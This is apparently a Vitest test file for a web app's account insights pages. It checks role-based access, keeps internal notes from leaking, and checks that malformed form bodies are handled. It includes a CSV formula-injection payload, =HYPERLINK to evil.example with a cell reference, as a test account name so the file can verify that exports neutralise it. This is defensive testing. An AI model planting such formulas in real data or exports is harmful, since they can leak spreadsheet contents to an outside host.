import { describe, expect, it } from "vitest";
import { createAccount, createTestSnapshot, createUser } from "#db/testing/factories";
import { outcome, routeContext as context, signedIn, statusOf } from "#db/testing/requests";
import { action as accountAction, loader as accountLoader } from "./accounts.$accountId";
import { loader as accountsLoader } from "./accounts._index";
import { loader as valuesCsvLoader } from "./accounts_.$accountId.values[.]csv";
import { loader as groupsLoader } from "./groups";
import { loader as groupsCsvLoader } from "./groups[.]csv";
import { loader as lookAlikesLoader } from "./look-alikes";
import { loader as valueLoader } from "./value";
import { loader as valueCsvLoader } from "./value[.]csv";

const RANDOM_ID = "7b0c3c1e-8d8e-4f0a-9a7b-2d3e4f5a6b7c";
const AS_OF = "2026-01-31";

/** An account whose name a spreadsheet would run, with a snapshot and an internal note. */
async function hostileAccount() {
  const account = await createAccount({
    name: `=HYPERLINK("http://evil.example/?"&A1,"Open") ${Date.now()}`,
    revenueCents: 900_000_000_00,
    contactEmails: ["ceo@hostile.example"],
  });
  await createTestSnapshot(account.id, AS_OF, { revenueCents: 900_000_000_00 });
  const { post } = await signedIn("staff");
  const noted = await statusOf(() =>
    accountAction({
      request: post(`/insights/accounts/${account.id}`, {
        intent: "add-note",
        note: "Renewal at risk: CFO unhappy",
      }),
      params: { accountId: account.id },
      context,
    }),
  );
  expect(noted).toBe(200);
  return account;
}

describe("the account insights pages", () => {
  it.each([
    ["member", 403],
    ["moderator", 403],
    ["staff", 200],
    ["admin", 200],
  ] as const)("answer a %s with %i on every page, download and action", async (role, expected) => {
    const account = await hostileAccount();
    const { get, post } = await signedIn(role);
    const params = { accountId: account.id };
    const pages = [
      () => accountsLoader({ request: get("/insights/accounts"), params: {}, context }),
      () =>
        accountLoader({
          request: get(
            `/insights/accounts/${account.id}?_data=routes/insights+/accounts.$accountId`,
          ),
          params,
          context,
        }),
      () =>
        valuesCsvLoader({
          request: get(`/insights/accounts/${account.id}/values.csv`),
          params,
          context,
        }),
      () => groupsLoader({ request: get("/insights/groups"), params: {}, context }),
      () =>
        groupsCsvLoader({
          request: get("/insights/groups.csv?table=summary"),
          params: {},
          context,
        }),
      () => lookAlikesLoader({ request: get("/insights/look-alikes"), params: {}, context }),
      () => valueLoader({ request: get(`/insights/value?asOf=${AS_OF}`), params: {}, context }),
      () =>
        valueCsvLoader({
          request: get(`/insights/value.csv?table=top&asOf=${AS_OF}`),
          params: {},
          context,
        }),
    ];
    for (const page of pages) {
      const answer = await outcome(page);
      expect(answer.status).toBe(expected);
      if (expected === 403) {
        const seen = JSON.stringify(answer.body);
        expect(seen).not.toContain("CFO unhappy");
        expect(seen).not.toContain("HYPERLINK");
      }
    }
    expect(
      await statusOf(() =>
        accountAction({
          request: post(`/insights/accounts/${account.id}`, { intent: "add-note", note: "Mine" }),
          params,
          context,
        }),
      ),
    ).toBe(expected === 200 ? 200 : 403);
  });

  it("downloads account names as text, never as a formula, and privately", async () => {
    const account = await hostileAccount();
    const { get } = await signedIn("staff");
    const response = (await valueCsvLoader({
      request: get(`/insights/value.csv?table=top&asOf=${AS_OF}`),
      params: {},
      context,
    })) as Response;
    expect(response.headers.get("Cache-Control")).toBe("private, no-store");
    const text = await response.text();
    expect(text).toContain(`'=HYPERLINK`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const values = (await valuesCsvLoader({
      request: get(`/insights/accounts/${account.id}/values.csv`),
      params: { accountId: account.id },
      context,
    })) as Response;
    expect(values.headers.get("Content-Disposition")).toMatch(
      /^attachment; filename="[a-z0-9-]+-values\.csv"$/,
    );
  });

  it("answers a note on an account that doesn't exist with 404, not a server error", async () => {
    const { post } = await signedIn("staff");
    const answer = await outcome(() =>
      accountAction({
        request: post(`/insights/accounts/${RANDOM_ID}`, { intent: "add-note", note: "Lost" }),
        params: { accountId: RANDOM_ID },
        context,
      }),
    );
    expect(answer.status).toBe(404);
    expect(
      await statusOf(() =>
        accountAction({
          request: post(`/insights/accounts/${RANDOM_ID}`, {
            intent: "delete-note",
            noteId: RANDOM_ID,
          }),
          params: { accountId: RANDOM_ID },
          context,
        }),
      ),
    ).toBe(404);
  });

  it("answers hostile form bodies with words, never a server error", async () => {
    const account = await createAccount();
    const { post, cookie } = await signedIn("staff");
    const params = { accountId: account.id };
    const send = (fields: Record<string, string>) =>
      statusOf(() =>
        accountAction({
          request: post(`/insights/accounts/${account.id}`, fields),
          params,
          context,
        }),
      );
    expect(await send({ intent: "add-note", "x[100000000]": "1", note: "Fine" })).toBe(200);
    expect(await send({ intent: "add-note", note: "Bad \u0000 byte" })).toBeLessThan(500);
    expect(await send({ intent: "add-note", note: "Half \ud800 emoji" })).toBeLessThan(500);
    expect(await send({ intent: "wipe-everything" })).toBe(400);
    const many = Object.fromEntries(
      Array.from({ length: 5_000 }, (_, i) => [`f${i}`, "1"] as const),
    );
    expect(await send({ ...many, intent: "add-note", note: "Still fine" })).toBe(200);
    const json = await statusOf(() =>
      accountAction({
        request: new Request(`http://localhost/insights/accounts/${account.id}`, {
          method: "POST",
          headers: {
            Cookie: cookie,
            Origin: "http://localhost",
            "Content-Type": "application/json",
          },
          body: JSON.stringify({ intent: "add-note", note: "json" }),
        }),
        params,
        context,
      }),
    );
    expect(json).toBe(415);
  });

  it("never shows an account's notes or values to a member of that account", async () => {
    const account = await hostileAccount();
    const insider = await createUser({ accountId: account.id });
    const { get } = await signedIn(insider);
    const answer = await outcome(() =>
      accountLoader({
        request: get(`/insights/accounts/${account.id}`),
        params: { accountId: account.id },
        context,
      }),
    );
    expect(answer.status).toBe(403);
    expect(JSON.stringify(answer.body)).not.toContain("CFO unhappy");
  });
});
